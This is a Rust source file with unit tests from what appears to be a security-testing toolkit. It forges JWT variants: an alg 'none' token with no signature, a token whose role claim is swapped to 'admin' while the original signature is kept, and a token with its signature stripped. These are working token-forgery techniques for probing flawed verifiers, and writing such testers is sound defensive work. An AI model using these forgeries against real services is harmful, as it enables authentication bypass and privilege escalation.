// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Token Tampering Toolkit
 * Minimal base64url JWT segment codec for forging test variants
 *
 * Deliberately NOT a JWT library: the whole point is to construct tokens
 * that no verifying library would emit, so the segments are decoded and
 * re-encoded by hand.
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine as _};
use serde_json::Value;

/// Decode one base64url JWT segment into JSON.
pub fn decode_segment(segment: &str) -> Option<Value> {
    let bytes = URL_SAFE_NO_PAD.decode(segment.as_bytes()).ok()?;
    serde_json::from_slice(&bytes).ok()
}

fn encode_segment(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string().as_bytes())
}

fn split3(token: &str) -> Option<(&str, &str, &str)> {
    let mut parts = token.splitn(3, '.');
    Some((parts.next()?, parts.next()?, parts.next()?))
}

/// Forge a variant claiming no signature algorithm, with the signature
/// segment left empty. A verifier that honors the header's `alg` field
/// will accept this; a correct one rejects it outright.
pub fn forge_alg_none(token: &str) -> Option<String> {
    let (_, payload, _) = split3(token)?;
    decode_segment(payload)?; // only forge from a structurally valid token
    let header = serde_json::json!({"alg": "none", "typ": "JWT"});
    Some(format!("{}.{}.", encode_segment(&header), payload))
}

/// Forge a variant with one payload claim substituted while reusing the
/// original signature verbatim. Acceptance proves the signature is not
/// actually checked against the payload bytes.
pub fn forge_payload_swap(token: &str, claim: &str, value: Value) -> Option<String> {
    let (header, payload, signature) = split3(token)?;
    let mut claims = decode_segment(payload)?;
    claims.as_object_mut()?.insert(claim.to_string(), value);
    Some(format!("{}.{}.{}", header, encode_segment(&claims), signature))
}

/// Forge a variant with the signature segment stripped entirely.
pub fn forge_signature_stripped(token: &str) -> Option<String> {
    let (header, payload, signature) = split3(token)?;
    if signature.is_empty() {
        return None; // already unsigned, nothing to strip
    }
    Some(format!("{}.{}.", header, payload))
}

/// A token shaped like a JWT: three dot-separated base64url segments with
/// a decodable header.
pub fn looks_like_jwt(token: &str) -> bool {
    match split3(token) {
        Some((header, payload, _)) => {
            decode_segment(header).is_some() && decode_segment(payload).is_some()
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    // {"alg":"HS256","typ":"JWT"} . {"sub":"12","role":"citizen"} . fake sig
    fn sample_token() -> String {
        let header = encode_segment(&json!({"alg": "HS256", "typ": "JWT"}));
        let payload = encode_segment(&json!({"sub": "12", "role": "citizen"}));
        format!("{}.{}.c2lnbmF0dXJl", header, payload)
    }

    #[test]
    fn test_decode_segment_round_trip() {
        let value = json!({"sub": "12", "role": "citizen"});
        let decoded = decode_segment(&encode_segment(&value)).unwrap();
        assert_eq!(decoded, value);
    }

    #[test]
    fn test_alg_none_variant_shape() {
        let forged = forge_alg_none(&sample_token()).unwrap();
        assert!(forged.ends_with('.'), "signature segment must be empty");

        let (header, payload, signature) = split3(&forged).unwrap();
        assert!(signature.is_empty());
        assert_eq!(decode_segment(header).unwrap()["alg"], "none");
        // Payload carried over untouched.
        assert_eq!(decode_segment(payload).unwrap()["role"], "citizen");
    }

    #[test]
    fn test_payload_swap_keeps_original_signature() {
        let token = sample_token();
        let forged = forge_payload_swap(&token, "role", json!("admin")).unwrap();

        let (orig_header, _, orig_sig) = split3(&token).unwrap();
        let (header, payload, signature) = split3(&forged).unwrap();
        assert_eq!(header, orig_header);
        assert_eq!(signature, orig_sig, "original signature must be reused");
        assert_eq!(decode_segment(payload).unwrap()["role"], "admin");
        assert_eq!(decode_segment(payload).unwrap()["sub"], "12");
    }

    #[test]
    fn test_signature_strip() {
        let forged = forge_signature_stripped(&sample_token()).unwrap();
        let (_, _, signature) = split3(&forged).unwrap();
        assert!(signature.is_empty());
    }

    #[test]
    fn test_garbage_token_rejected() {
        assert!(forge_alg_none("not-a-jwt").is_none());
        assert!(forge_payload_swap("a.b", "role", json!("admin")).is_none());
        assert!(!looks_like_jwt("opaque-session-token-0192834"));
        assert!(looks_like_jwt(&sample_token()));
    }
}
